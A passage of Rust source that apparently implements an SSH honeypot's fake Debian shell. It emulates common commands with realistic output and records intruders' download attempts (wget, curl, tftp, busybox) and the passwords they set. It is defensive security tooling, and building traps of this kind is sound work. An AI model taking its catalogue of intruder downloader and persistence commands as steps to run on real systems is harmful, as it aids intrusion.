            "printf" => ok(args.first().map(|f| unescape(f)).unwrap_or_default()),
            "uname" => ok(uname(p, args)),
            "arch" => ok("x86_64\n".into()),
            "ssh" => ssh_client(p, args),
            "id" => ok(if self.user == "root" {
                "uid=0(root) gid=0(root) groups=0(root)\n".into()
            } else {
                format!(
                    "uid=1000({u}) gid=1000({u}) groups=1000({u}),27(sudo)\n",
                    u = self.user
                )
            }),
            "whoami" => ok(format!("{}\n", self.user)),
            "pwd" => ok(format!("{}\n", self.cwd)),
            "hostname" => ok(format!("{}\n", p.hostname)),
            "nproc" => ok(format!("{}\n", p.cpus)),
            "free" => ok(free(p, args)),
            "w" => ok(w(p, &self.user, self.clock())),
            "who" => ok(format!(
                "{:<8} pts/0        {}\n",
                self.user,
                self.clock().format("%Y-%m-%d %H:%M")
            )),
            "uptime" => ok(uptime_line(p, self.clock())),
            "df" => ok(df(p)),
            "lscpu" => ok(lscpu(p)),
            "ps" => ok(ps(args, &self.user)),
            "top" => ok(top(p, self.clock(), &self.user)),
            "ifconfig" => ok(ifconfig(p)),
            "ip" => ip(p, args),
            "date" => ok(date(self.clock(), args)),
            "clear" => ok("\x1b[H\x1b[2J\x1b[3J".into()),
            "cat" => self.cat(args, stdin),
            "ls" => self.ls(args),
            "cd" => self.cd(args),
            "exit" | "logout" => Output {
                exit: true,
                status: args.first().and_then(|s| s.parse().ok()).unwrap_or(0),
                ..Output::default()
            },
            "which" => self.which(args),
            "type" => self.type_cmd(args),
            "grep" | "head" | "tail" | "wc" | "awk" | "cut" | "sort" | "uniq" | "base64" => {
                self.filter(name, args, stdin)
            }
            "tee" => self.tee(args, stdin),
            "crontab" => self.crontab(args, stdin),
            "sh" | "bash" | "dash" => self.sh(name, args, stdin),
            "chmod" => self.chmod(args),
            "chown" => self.each_existing("chown", args, 1),
            "chattr" => self.chattr(args),
            "lsattr" => self.lsattr(args),
            "mkdir" => self.mkdir(args),
            "rm" => self.rm(args),
            "touch" => self.touch(args),
            "cp" | "mv" => self.cp_mv(name, args),
            "kill" => kill(args),
            "pkill" | "killall" => pkill(name, args),
            "chpasswd" => self.chpasswd(stdin),
            "passwd" => self.passwd(args, stdin),
            "useradd" => self.useradd(args),
            "history" => {
                let mut out = String::new();
                for (i, l) in self.history.iter().enumerate() {
                    out.push_str(&format!("{:>5}  {l}\n", i + 1));
                }
                ok(out)
            }
            "export" => {
                if args.is_empty() {
                    let mut out = String::new();
                    for (k, v) in &self.vars {
                        out.push_str(&format!("declare -x {k}=\"{v}\"\n"));
                    }
                    return ok(out);
                }
                for a in args {
                    if is_assignment(a) {
                        self.set_var(a);
                    }
                }
                Output::default()
            }
            "env" => {
                let rest: Vec<&str> = args
                    .iter()
                    .copied()
                    .skip_while(|a| a.starts_with('-') || is_assignment(a))
                    .collect();
                if rest.is_empty() {
                    let mut out = format!("PWD={}\n", self.cwd);
                    for (k, v) in &self.vars {
                        out.push_str(&format!("{k}={v}\n"));
                    }
                    ok(out)
                } else {
                    self.simple(&rest, stdin)
                }
            }
            "unset" => {
                for a in args {
                    self.vars.remove(*a);
                }
                Output::default()
            }
            "set" if args.is_empty() => {
                let mut out = String::new();
                for (k, v) in &self.vars {
                    out.push_str(&format!("{k}={v}\n"));
                }
                ok(out)
            }
            "sleep" => match args.first() {
                None => Output::fail(
                    "sleep: missing operand\nTry 'sleep --help' for more information.\n".into(),
                    1,
                ),
                Some(a)
                    if a.trim_end_matches(['s', 'm', 'h', 'd'])
                        .parse::<f64>()
                        .is_err() =>
                {
                    Output::fail(
                        format!(
                            "sleep: invalid time interval ‘{a}’\nTry 'sleep --help' for more information.\n"
                        ),
                        1,
                    )
                }
                Some(_) => Output::default(),
            },
            "nohup" => self.nohup(args, stdin),
            "sudo" => {
                let rest: Vec<&str> = args
                    .iter()
                    .copied()
                    .skip_while(|a| a.starts_with('-'))
                    .collect();
                if rest.is_empty() {
                    Output::fail("usage: sudo -h | -K | -k | -V\nusage: sudo -v [-ABkNnS] [-g group] [-h host] [-p prompt] [-u user]\n".into(), 1)
                } else {
                    self.simple(&rest, stdin)
                }
            }
            "true" | "sync" | "ulimit" | "umask" | "set" => Output::default(),
            "false" => Output::fail(String::new(), 1),
            "wget" => self.wget(args, false),
            "curl" => self.curl(args),
            "tftp" => self.tftp(args, false),
            "busybox" => self.busybox(args, stdin),
            "ftpget" => {
                // Not installed on Debian (a busybox applet): bash cannot find it, but what
                // the attacker asked for is still worth recording.
                let mut o = self.ftpget(args, false);
                let nf = self.not_found(name);
                o.out.clear();
                o.err = nf.err;
                o.status = 127;
                o.not_found = nf.not_found;
                o
            }
            _ => self.not_found(name),
        }
    }

    fn cat(&self, args: &[&str], stdin: &str) -> Output {
        let files = operands(args, &[]);
        if files.is_empty() {
            return Output::ok(stdin.to_owned());
        }
        let mut o = Output::default();
        for f in files {
            if f == "-" {
                push_bounded(&mut o.out, stdin);
                continue;
            }
            match self.fs.read(&self.abs(f)) {
                Ok(text) => push_bounded(&mut o.out, text),
                Err(e) => {
                    push_bounded(&mut o.err, &format!("cat: {f}: {}\n", e.message()));
                    o.status = 1;
                }
            }
        }
        o
    }

    /// Files named on the command line (`-` or none: standard input), concatenated, for the
    /// text filters; errors as `name: file: message`.
    fn filter(&mut self, name: &str, args: &[&str], stdin: &str) -> Output {
        let value_flags: &[&str] = match name {
            "grep" => &["-e", "-f", "-m", "-A", "-B", "-C"],
            "head" | "tail" => &["-n", "-c"],
            "awk" => &["-F", "-v", "-f"],
            "cut" => &["-d", "-f", "-c", "-b"],
            "sort" => &["-k", "-t", "-o"],
            _ => &[],
        };
        let mut ops = operands(args, value_flags);
        if matches!(name, "grep" | "awk") && !ops.is_empty() {
            ops.remove(0);
        }
        let mut err = String::new();
        let text = if ops.is_empty() {
            stdin.to_owned()
        } else {
            let mut t = String::new();
            for f in &ops {
                if *f == "-" {
                    push_bounded(&mut t, stdin);
                    continue;
                }
                match self.fs.read(&self.abs(f)) {
                    Ok(s) => push_bounded(&mut t, s),
                    Err(e) => err.push_str(&format!("{name}: {f}: {}\n", e.message())),
                }
            }
            t
        };
        let mut o = match name {
            "grep" => grep(args, &text),
            "head" => Output::ok(head(args, &text)),
            "tail" => Output::ok(tail(args, &text)),
            "wc" => Output::ok(wc(args, &text)),
            "awk" => Output::ok(awk(args, &text)),
            "cut" => Output::ok(cut_cmd(args, &text)),
            "sort" => {
                let mut lines: Vec<&str> = text.lines().collect();
                lines.sort_unstable();
                if args.iter().any(|a| a.starts_with('-') && a.contains('r')) {
                    lines.reverse();
                }
                Output::ok(lines.iter().map(|l| format!("{l}\n")).collect())
            }
            "uniq" => {
                let mut lines: Vec<&str> = text.lines().collect();
                lines.dedup();
                Output::ok(lines.iter().map(|l| format!("{l}\n")).collect())
            }
            _ => base64_cmd(args, &text),
        };
        if !err.is_empty() {
            o.err.insert_str(0, &err);
            o.status = if name == "grep" { 2 } else { 1 };
        }
        o
    }

    fn ls(&self, args: &[&str]) -> Output {
        let flags: String = args
            .iter()
            .filter(|a| a.starts_with('-') && a.len() > 1)
            .flat_map(|a| a.chars().skip(1))
            .collect();
        let long = flags.contains('l');
        let all = flags.contains('a');
        let almost = flags.contains('A');
        let human = flags.contains('h');
        let dir_only = flags.contains('d');
        let targets = operands(args, &[]);
        let targets = if targets.is_empty() {
            vec!["."]
        } else {
            targets
        };
        let now = unix(self.now);
        let mut o = Output::default();
        let many = targets.len() > 1;
        let entry = |name: &str, n: &fs::Node| -> String {
            if !long {
                return name.to_owned();
            }
            let link = match n.kind {
                Kind::Link(t) => format!(" -> {t}"),
                _ => String::new(),
            };
            format!(
                "{} {} {} {} {:>5} {} {name}{link}",
                n.mode_string(),
                if n.is_dir() { 2 } else { 1 },
                n.owner,
                n.owner,
                if human {
                    human_size(n.size())
                } else {
                    n.size().to_string()
                },
                ls_date(n.mtime, now),
            )
        };
        let sep = if long { "\n" } else { "  " };
        for (i, t) in targets.iter().enumerate() {
            let path = self.abs(t);
            let Some(node) = self.fs.get(&path) else {
                push_bounded(
                    &mut o.err,
                    &format!("ls: cannot access '{t}': No such file or directory\n"),
                );
                o.status = 2;
                continue;
            };
            if !node.is_dir() || dir_only {
                push_bounded(&mut o.out, &format!("{}\n", entry(t, node)));
                continue;
            }
            let Ok(list) = self.fs.list(&path) else {
                continue;
            };
            if many {
                push_bounded(
                    &mut o.out,
                    &format!("{}{t}:\n", if i > 0 { "\n" } else { "" }),
                );
            }
            let mut shown: Vec<(String, &fs::Node)> = Vec::new();
            if all {
                shown.push((".".into(), node));
                if let Some(pn) = self.fs.get(fs::parent(&path)) {
                    shown.push(("..".into(), pn));
                }
            }
            for (name, n) in list {
                if name.starts_with('.') && !all && !almost {
                    continue;
                }
                shown.push((name.to_owned(), n));
            }
            if long {
                let blocks: u64 = shown.iter().map(|(_, n)| n.size().div_ceil(4096) * 4).sum();
                let total = if human {
                    format!("{blocks}K")
                } else {
                    blocks.to_string()
                };
                push_bounded(&mut o.out, &format!("total {total}\n"));
            }
            let mut body = String::new();
            for (name, n) in &shown {
                if body.len() > MAX_OUTPUT {
                    break;
                }
                if !body.is_empty() {
                    body.push_str(sep);
                }
                body.push_str(&entry(name, n));
            }
            if !body.is_empty() {
                body.push('\n');
            }
            push_bounded(&mut o.out, &body);
        }
        o
    }

    fn cd(&mut self, args: &[&str]) -> Output {
        let target = args.first().copied().unwrap_or("");
        let path = match target {
            "" | "-" => self.home(),
            t => self.abs(t),
        };
        match self.fs.get(&path).map(|n| &n.kind) {
            Some(Kind::Dir) => {
                self.cwd = path;
                Output::default()
            }
            Some(Kind::Link(t)) => {
                self.cwd = fs::normalize("/", t);
                Output::default()
            }
            Some(_) => Output::fail(format!("-bash: cd: {target}: Not a directory\n"), 1),
            None => Output::fail(
                format!("-bash: cd: {target}: No such file or directory\n"),
                1,
            ),
        }
    }

    fn lookup_path(&self, cmd: &str) -> Option<String> {
        if cmd.is_empty() || cmd.contains('/') {
            return None;
        }
        ["/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin"]
            .iter()
            .map(|d| format!("{d}/{cmd}"))
            .find(|p| {
                self.fs
                    .get(p)
                    .is_some_and(|n| n.mode & 0o111 != 0 && !n.is_dir())
            })
    }

    fn which(&self, args: &[&str]) -> Output {
        let mut out = String::new();
        let mut status = 0;
        for a in operands(args, &[]) {
            match self.lookup_path(a) {
                Some(p) => {
                    out.push_str(&p);
                    out.push('\n');
                }
                None => status = 1,
            }
        }
        Output {
            status: if out.is_empty() { 1 } else { status },
            out,
            ..Output::default()
        }
    }

    fn type_cmd(&self, args: &[&str]) -> Output {
        let mut o = Output::default();
        for a in args {
            if matches!(
                *a,
                "cd" | "echo"
                    | "exit"
                    | "export"
                    | "history"
                    | "kill"
                    | "pwd"
                    | "set"
                    | "type"
                    | "unset"
                    | "printf"
                    | "true"
                    | "false"
                    | "logout"
                    | "ulimit"
                    | "umask"
            ) {
                o.out.push_str(&format!("{a} is a shell builtin\n"));
            } else if let Some(p) = self.lookup_path(a) {
                o.out.push_str(&format!("{a} is {p}\n"));
            } else {
                o.err.push_str(&format!("-bash: type: {a}: not found\n"));
                o.status = 1;
            }
        }
        o
    }

    fn tee(&mut self, args: &[&str], stdin: &str) -> Output {
        let append = args.iter().any(|a| *a == "-a" || *a == "--append");
        let mut o = Output::ok(stdin.to_owned());
        for f in operands(args, &[]) {
            let path = self.abs(f);
            if let Err(e) = self.fs.write(&path, stdin, append, &self.user) {
                o.err.push_str(&format!("tee: {f}: {}\n", e.message()));
                o.status = 1;
            }
        }
        o
    }

    fn crontab(&mut self, args: &[&str], stdin: &str) -> Output {
        let spool = format!("/var/spool/cron/crontabs/{}", self.user);
        let none = || Output::fail(format!("no crontab for {}\n", self.user), 1);
        let flags: Vec<&str> = args
            .iter()
            .copied()
            .filter(|a| a.starts_with('-') && a.len() > 1)
            .collect();
        let files = operands(args, &["-u"]);
        if flags.iter().any(|f| f.contains('l')) {
            return match self.fs.read(&spool) {
                Ok(t) => Output::ok(t.to_owned()),
                Err(_) => none(),
            };
        }
        if flags.iter().any(|f| f.contains('r')) {
            if self.fs.get(&spool).is_none() {
                return none();
            }
            self.fs.remove(&spool, false);
            return Output::default();
        }
        if flags.iter().any(|f| f.contains('e')) {
            return Output::fail(
                format!(
                    "no crontab for {} - using an empty one\ncrontab: no changes made to crontab\n",
                    self.user
                ),
                0,
            );
        }
        let text = match files.first() {
            None | Some(&"-") => stdin.to_owned(),
            Some(f) => match self.fs.read(&self.abs(f)) {
                Ok(t) => t.to_owned(),
                Err(e) => return Output::fail(format!("{f}: {}\n", e.message()), 1),
            },
        };
        match self.fs.write(&spool, &text, false, &self.user.clone()) {
            Ok(()) => Output::default(),
            Err(e) => Output::fail(format!("crontab: {}\n", e.message()), 1),
        }
    }

    fn sh(&mut self, name: &str, args: &[&str], stdin: &str) -> Output {
        let ctx = if name == "bash" { Ctx::Bash } else { Ctx::Dash };
        let mut it = args.iter().copied();
        let mut script = None;
        while let Some(a) = it.next() {
            if a == "-c" {
                let inner = it.next().unwrap_or("");
                return self.run_script(inner, ctx);
            }
            if a.starts_with('-') && a != "-" {
                continue;
            }
            script = Some(a);
            break;
        }
        let Some(file) = script else {
            // `... | sh`: the piped text is the script.
            return self.run_script(stdin, ctx);
        };
        match self.fs.read(&self.abs(file)).map(str::to_owned) {
            Ok(text) if text.starts_with("\u{7f}ELF") || text.contains('\0') => Output::fail(
                format!("{file}: 1: Syntax error: Unterminated quoted string\n"),
                2,
            ),
            Ok(text) => self.run_script(&text, ctx),
            Err(e) if name == "bash" => {
                Output::fail(format!("bash: {file}: {}\n", e.message()), 127)
            }
            Err(_) => Output::fail(format!("{name}: 0: cannot open {file}: No such file\n"), 2),
        }
    }

    fn chmod(&mut self, args: &[&str]) -> Output {
        let recursive = args.iter().any(|a| *a == "-R" || *a == "--recursive");
        let ops: Vec<&str> = args
            .iter()
            .copied()
            .filter(|a| !matches!(*a, "-R" | "--recursive" | "-f" | "-v" | "-c"))
            .collect();
        let Some((mode, files)) = ops.split_first() else {
            return Output::fail(
                "chmod: missing operand\nTry 'chmod --help' for more information.\n".into(),
                1,
            );
        };
        if files.is_empty() {
            return Output::fail(
                format!(
                    "chmod: missing operand after ‘{mode}’\nTry 'chmod --help' for more information.\n"
                ),
                1,
            );
        }
        let mut o = Output::default();
        for f in files {
            let Some(targets) = self.targets(f, recursive) else {
                o.err.push_str(&format!(
                    "chmod: cannot access '{f}': No such file or directory\n"
                ));
                o.status = 1;
                continue;
            };
            for t in targets {
                let Some(node) = self.fs.get(&t) else {
                    continue;
                };
                let Some(new) = parse_mode(mode, node.mode, node.is_dir()) else {
                    return Output::fail(
                        format!(
                            "chmod: invalid mode: ‘{mode}’\nTry 'chmod --help' for more information.\n"
                        ),
                        1,
                    );
                };
                if let Err(e) = self.fs.chmod(&t, new) {
                    push_bounded(
                        &mut o.err,
                        &format!("chmod: changing permissions of '{f}': {}\n", e.message()),
                    );
                    o.status = 1;
                }
            }
        }
        o
    }

    fn each_existing(&mut self, cmd: &str, args: &[&str], skip: usize) -> Output {
        let ops = operands(args, &[]);
        let mut o = Output::default();
        if ops.len() <= skip {
            return Output::fail(
                format!("{cmd}: missing operand\nTry '{cmd} --help' for more information.\n"),
                1,
            );
        }
        for f in &ops[skip..] {
            if self.fs.get(&self.abs(f)).is_none() {
                o.err.push_str(&format!(
                    "{cmd}: cannot access '{f}': No such file or directory\n"
                ));
                o.status = 1;
            }
        }
        o
    }

    fn chattr(&mut self, args: &[&str]) -> Output {
        let recursive = args.contains(&"-R");
        let mut set_i = None;
        let mut files = Vec::new();
        for a in args {
            match a.chars().next() {
                Some(op @ ('+' | '-' | '='))
                    if a.len() > 1 && *a != "-R" && *a != "-V" && *a != "-f" =>
                {
                    if a.contains('i') {
                        set_i = Some(op != '-');
                    } else if op == '=' {
                        set_i = Some(false);
                    }
                }
                _ if *a == "-R" || *a == "-V" || *a == "-f" => {}
                _ => files.push(*a),
            }
        }
        if files.is_empty() {
            return Output::fail(
                "Usage: chattr [-RVf] [-+=aAcCdDeijPsStTuFx] [-p project] [-v version] files...\n"
                    .into(),
                1,
            );
        }
        let mut o = Output::default();
        for f in files {
            let Some(targets) = self.targets(f, recursive) else {
                o.err.push_str(&format!(
                    "chattr: No such file or directory while trying to stat {f}\n"
                ));
                o.status = 1;
                continue;
            };
            let Some(on) = set_i else { continue };
            for t in targets {
                if self.fs.set_immutable(&t, on).is_err() {
                    o.err.push_str(&format!(
                        "chattr: Inappropriate ioctl for device while reading flags on {f}\n"
                    ));
                    o.status = 1;
                }
            }
        }
        o
    }

    /// `f` as an absolute path, with everything below it when `recursive`; `None` when it
    /// does not exist.
    fn targets(&self, f: &str, recursive: bool) -> Option<Vec<String>> {
        let path = self.abs(f);
        self.fs.get(&path)?;
        Some(if recursive {
            self.fs.walk(&path)
        } else {
            vec![path]
        })
    }

    fn lsattr(&self, args: &[&str]) -> Output {
        let ops = operands(args, &[]);
        let mut o = Output::default();
        let flags = |n: &fs::Node| {
            if n.immutable {
                "----i---------e-------"
            } else {
                "--------------e-------"
            }
        };
        if ops.is_empty() {
            if let Ok(list) = self.fs.list(&self.cwd) {
                for (name, n) in list.into_iter().filter(|(name, _)| !name.starts_with('.')) {
                    push_bounded(&mut o.out, &format!("{} ./{name}\n", flags(n)));
                }
            }
            return o;
        }
        for f in ops {
            match self.fs.get(&self.abs(f)) {
                Some(n) => o.out.push_str(&format!("{} {f}\n", flags(n))),
                None => {
                    o.err.push_str(&format!(
                        "lsattr: No such file or directory while trying to stat {f}\n"
                    ));
                    o.status = 1;
                }
            }
        }
        o
    }

    fn mkdir(&mut self, args: &[&str]) -> Output {
        let parents = args
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('p'))
            || args.contains(&"--parents");
        let dirs = operands(args, &["-m"]);
        if dirs.is_empty() {
            return Output::fail(
                "mkdir: missing operand\nTry 'mkdir --help' for more information.\n".into(),
                1,
            );
        }
        let mut o = Output::default();
        for d in dirs {
            let path = self.abs(d);
            if let Err(e) = self.fs.mkdir(&path, parents, &self.user) {
                push_bounded(
                    &mut o.err,
                    &format!("mkdir: cannot create directory ‘{d}’: {}\n", e.message()),
                );
                o.status = 1;
            }
        }
        o
    }

    fn rm(&mut self, args: &[&str]) -> Output {
        let flags: String = args
            .iter()
            .filter(|a| a.starts_with('-') && a.len() > 1 && !a.starts_with("--"))
            .flat_map(|a| a.chars().skip(1))
            .collect();
        let recursive = flags.contains('r') || flags.contains('R') || args.contains(&"--recursive");
        let force = flags.contains('f') || args.contains(&"--force");
        let files = operands(args, &[]);
        if files.is_empty() && !force {
            return Output::fail(
                "rm: missing operand\nTry 'rm --help' for more information.\n".into(),
                1,
            );
        }
        let mut o = Output::default();
        for f in files {
            let path = self.abs(f);
            if path == "/" && recursive && !args.contains(&"--no-preserve-root") {
                o.err.push_str("rm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to override this failsafe\n");
                o.status = 1;
                continue;
            }
            for (p, e) in self.fs.remove(&path, recursive) {
                if e == FsError::NotFound && force {
                    continue;
                }
                let shown = match p.strip_prefix(&path) {
                    Some(rest) => format!("{}{rest}", f.trim_end_matches('/')),
                    None => p.clone(),
                };
                push_bounded(
                    &mut o.err,
                    &format!("rm: cannot remove '{shown}': {}\n", e.message()),
                );
                o.status = 1;
            }
        }
        o
    }

    fn touch(&mut self, args: &[&str]) -> Output {
        let files = operands(args, &["-d", "-t", "-r"]);
        if files.is_empty() {
            return Output::fail(
                "touch: missing file operand\nTry 'touch --help' for more information.\n".into(),
                1,
            );
        }
        let mut o = Output::default();
        for f in files {
            let path = self.abs(f);
            if let Err(e) = self.fs.touch(&path, &self.user) {
                push_bounded(
                    &mut o.err,
                    &format!("touch: cannot touch '{f}': {}\n", e.message()),
                );
                o.status = 1;
            }
        }
        o
    }

    fn cp_mv(&mut self, cmd: &str, args: &[&str]) -> Output {
        let flags: String = args
            .iter()
            .filter(|a| a.starts_with('-') && a.len() > 1)
            .flat_map(|a| a.chars().skip(1))
            .collect();
        let recursive = flags.contains('r') || flags.contains('R') || flags.contains('a');
        let ops = operands(args, &["-t", "-S"]);
        let Some((dst, srcs)) = ops.split_last().filter(|(_, s)| !s.is_empty()) else {
            return Output::fail(
                format!("{cmd}: missing file operand\nTry '{cmd} --help' for more information.\n"),
                1,
            );
        };
        let dst_path = self.abs(dst);
        if srcs.len() > 1 && !self.fs.is_dir(&dst_path) {
            return Output::fail(format!("{cmd}: target '{dst}': Not a directory\n"), 1);
        }
        let mut o = Output::default();
        for s in srcs {
            let src = self.abs(s);
            if self.fs.get(&src).is_none() {
                o.err.push_str(&format!(
                    "{cmd}: cannot stat '{s}': No such file or directory\n"
                ));
                o.status = 1;
                continue;
            }
            let r = if cmd == "cp" {
                self.fs.copy(&src, &dst_path, recursive, &self.user)
            } else {
                self.fs.rename(&src, &dst_path)
            };
            let msg = match r {
                Ok(()) => continue,
                Err(FsError::IsADirectory) if cmd == "cp" => {
                    format!("cp: -r not specified; omitting directory '{s}'\n")
                }
                Err(FsError::NoSpace) => {
                    format!("{cmd}: error writing '{dst}': No space left on device\n")
                }
                Err(FsError::Invalid) => format!(
                    "{cmd}: cannot {} '{s}' to a subdirectory of itself, '{dst}'\n",
                    if cmd == "cp" {
                        "copy a directory,"
                    } else {
                        "move"
                    }
                ),
                Err(e) if cmd == "mv" => {
                    format!("mv: cannot move '{s}' to '{dst}': {}\n", e.message())
                }
                Err(e) => format!("cp: cannot create regular file '{dst}': {}\n", e.message()),
            };
            push_bounded(&mut o.err, &msg);
            o.status = 1;
        }
        o
    }

    fn known_user(&self, user: &str) -> bool {
        self.fs
            .read("/etc/passwd")
            .is_ok_and(|t| t.lines().any(|l| l.split(':').next() == Some(user)))
    }

    fn record_password(&mut self, user: &str, pass: &str) {
        if self.passwords.len() < MAX_PASSWORDS {
            self.passwords
                .push((cut(user, 64).to_owned(), cut(pass, 256).to_owned()));
        }
    }

    fn chpasswd(&mut self, stdin: &str) -> Output {
        let mut o = Output::default();
        for (i, line) in stdin.lines().enumerate().take(64) {
            let Some((user, pass)) = line.split_once(':') else {
                o.err
                    .push_str(&format!("chpasswd: line {}: missing new password\n", i + 1));
                o.status = 1;
                continue;
            };
            if self.known_user(user) {
                self.record_password(user, pass);
            } else {
                o.err.push_str(&format!("chpasswd: (user {user}) pam_chauthtok() failed, error:\nAuthentication token manipulation error\nchpasswd: (line {}, user {user}) password not changed\n", i + 1));
                o.status = 1;
            }
        }
        o
    }

    fn passwd(&mut self, args: &[&str], stdin: &str) -> Output {
        let user = operands(args, &[])
            .first()
            .map_or_else(|| self.user.clone(), |u| (*u).to_owned());
        if !self.known_user(&user) {
            return Output::fail(format!("passwd: user '{user}' does not exist\n"), 1);
        }
        let mut lines = stdin.lines();
        match (lines.next(), lines.next()) {
            (Some(a), Some(b)) if a == b && !a.is_empty() => {
                self.record_password(&user, a);
                Output::ok("New password: Retype new password: passwd: password updated successfully\n".into())
            }
            _ => Output {
                out: "New password: Retype new password: ".into(),
                err: "Sorry, passwords do not match.\npasswd: Authentication token manipulation error\npasswd: password unchanged\n".into(),
                status: 10,
                ..Output::default()
            },
        }
    }

    fn useradd(&mut self, args: &[&str]) -> Output {
        let ops = operands(
            args,
            &["-p", "-s", "-d", "-g", "-G", "-c", "-u", "-k", "-e"],
        );
        let Some(user) = ops.last() else {
            return Output::fail(
                "Usage: useradd [options] LOGIN\n       useradd -D\n       useradd -D [options]\n"
                    .into(),
                2,
            );
        };
        if self.known_user(user) {
            return Output::fail(format!("useradd: user '{user}' already exists\n"), 9);
        }
        if user.is_empty()
            || !user
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
        {
            return Output::fail(
                format!("useradd: invalid user name '{user}': use --badname to ignore\n"),
                3,
            );
        }
        let line = format!("{user}:x:1001:1001::/home/{user}:/bin/sh\n");
        match self.fs.write("/etc/passwd", &line, true, "root") {
            Ok(()) => Output::default(),
            Err(e) => Output::fail(
                format!(
                    "useradd: cannot lock /etc/passwd; try again later.\n{}\n",
                    e.message()
                ),
                1,
            ),
        }
    }

    fn nohup(&mut self, args: &[&str], stdin: &str) -> Output {
        if args.is_empty() {
            return Output::fail(
                "nohup: missing operand\nTry 'nohup --help' for more information.\n".into(),
                125,
            );
        }
        if let Some(opt) = args[0].strip_prefix('-').filter(|o| !o.is_empty()) {
            return Output::fail(
                format!(
                    "nohup: invalid option -- '{}'\nTry 'nohup --help' for more information.\n",
                    opt.chars().next().unwrap_or('-')
                ),
                125,
            );
        }
        let mut o = self.simple(args, stdin);
        if !o.not_found.is_empty() || o.status == 127 {
            o.err = format!(
                "nohup: failed to run command '{}': No such file or directory\n",
                args[0]
            );
            return o;
        }
        let out = std::mem::take(&mut o.out);
        let path = self.abs("nohup.out");
        if self.fs.write(&path, &out, true, &self.user).is_ok() {
            o.err.insert_str(
                0,
                "nohup: ignoring input and appending output to 'nohup.out'\n",
            );
        }
        o
    }

    fn busybox(&mut self, args: &[&str], stdin: &str) -> Output {
        let Some((&applet, rest)) = args.split_first() else {
            return Output::ok(busybox_banner());
        };
        match applet {
            "--list" => Output::ok(BUSYBOX_APPLETS.iter().map(|a| format!("{a}\n")).collect()),
            "wget" => self.wget(rest, true),
            "tftp" => self.tftp(rest, true),
            "ftpget" => self.ftpget(rest, true),
            a if BUSYBOX_APPLETS.contains(&a) => self.dispatch(a, rest, stdin),
            a => Output::fail(format!("{a}: applet not found\n"), 127),
        }
    }

    fn record(&self, o: &mut Output, url: String, outfile: Option<&str>, tool: &'static str) {
        if o.downloads.len() < MAX_DOWNLOADS {
            o.downloads.push(Download {
                url: cut(&url, MAX_LINE).to_owned(),
                outfile: outfile.map(|f| self.abs(f)),
                tool,
            });
        }
    }

    fn wget(&mut self, args: &[&str], busybox: bool) -> Output {
        let mut quiet = false;
        let mut outfile: Option<&str> = None;
        let mut prefix: Option<&str> = None;
        let mut urls = Vec::new();
        let mut it = args.iter().copied();
        while let Some(a) = it.next() {
            match a {
                "-q" | "--quiet" | "-nv" => quiet = true,
                "-O" | "--output-document" => outfile = it.next(),
                "-P" | "--directory-prefix" => prefix = it.next(),
                "-o" | "-a" | "-t" | "-T" | "-U" | "-e" | "--user-agent" | "--tries"
                | "--timeout" | "--header" => {
                    it.next();
                }
                a if a.starts_with("--output-document=") => {
                    outfile = a.split_once('=').map(|x| x.1)
                }
                a if a.starts_with("-O") => outfile = Some(&a[2..]),
                a if a.starts_with('-') => quiet |= !a.starts_with("--") && a.contains('q'),
                a => urls.push(a),
            }
        }
        let tool = if busybox { "busybox wget" } else { "wget" };
        if urls.is_empty() {
            return if busybox {
                Output::fail("BusyBox v1.35.0 (Debian 1:1.35.0-4+b3) multi-call binary.\n\nUsage: wget [-cqS] [--spider] [-O FILE] [-o LOGFILE] [--header STR]\n\t[--post-data STR | --post-file FILE] [-Y on/off]\n\t[--no-check-certificate] [-P DIR] [-U AGENT] [-T SEC] URL...\n\nRetrieve files via HTTP or FTP\n".into(), 1)
            } else {
                Output::fail("wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n".into(), 1)
            };
        }
        let mut o = Output::default();
        for url in urls.into_iter().take(MAX_DOWNLOADS) {
            let url = with_scheme(url, "http");
            let (host, port) = host_port(&url);
            let save = match outfile {
                Some("-") => None,
                Some(f) => Some(f.to_owned()),
                None => {
                    let name = url_file_name(&url).unwrap_or("index.html");
                    Some(match prefix {
                        Some(p) => format!("{}/{name}", p.trim_end_matches('/')),
                        None => name.to_owned(),
                    })
                }
            };
            self.record(&mut o, url.clone(), save.as_deref(), tool);
            let ip = is_ip(host);
            if busybox {
                if ip {
                    o.err.push_str(&format!("Connecting to {host} ({host}:{port})\nwget: can't connect to remote host ({host}): Connection refused\n"));
                } else {
                    o.err.push_str(&format!("wget: bad address '{host}'\n"));
                }
                o.status = 1;
                continue;
            }
            if !quiet {
                o.err.push_str(&format!(
                    "--{}--  {url}\n",
                    self.clock().format("%Y-%m-%d %H:%M:%S")
                ));
                if ip {
                    o.err.push_str(&format!(
                        "Connecting to {host}:{port}... failed: Connection refused.\n"
                    ));
                } else {
                    o.err.push_str(&format!("Resolving {host} ({host})... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘{host}’\n"));
                }
            }
            o.status = 4;
        }
        // GNU wget opens an -O file before connecting, so a failed fetch leaves it empty.
        if let (false, Some(f)) = (busybox, outfile.filter(|f| *f != "-")) {
            let path = self.abs(f);
            if self.fs.get(&path).is_none() {
                let _ = self.fs.write(&path, "", false, &self.user);
            }
        }
        o
    }

    fn curl(&mut self, args: &[&str]) -> Output {
        let mut silent = false;
        let mut show_error = false;
        let mut remote_name = false;
        let mut outfile: Option<&str> = None;
        let mut urls = Vec::new();
        let mut it = args.iter().copied();
        while let Some(a) = it.next() {
            match a {
                "--silent" => silent = true,
                "--show-error" => show_error = true,
                "--remote-name" => remote_name = true,
                "--output" => outfile = it.next(),
                "-H" | "-d" | "-A" | "-u" | "-X" | "-e" | "-m" | "-x" | "-b" | "-c" | "-w"
                | "-T" | "-F" | "-r" | "-K" | "--header" | "--data" | "--user-agent"
                | "--connect-timeout" | "--max-time" | "--retry" | "--request" | "--user" => {
                    it.next();
                }
                a if a.starts_with("--") => {}
                a if a.starts_with('-') && a.len() > 1 => {
                    silent |= a.contains('s');
                    show_error |= a.contains('S');
                    remote_name |= a.contains('O');
                    if a.ends_with('o') {
                        outfile = it.next();
                    }
                }
                a => urls.push(a),
            }
        }
        if urls.is_empty() {
            return Output::fail(
                "curl: try 'curl --help' or 'curl --manual' for more information\n".into(),
                2,
            );
        }
        let mut o = Output::default();
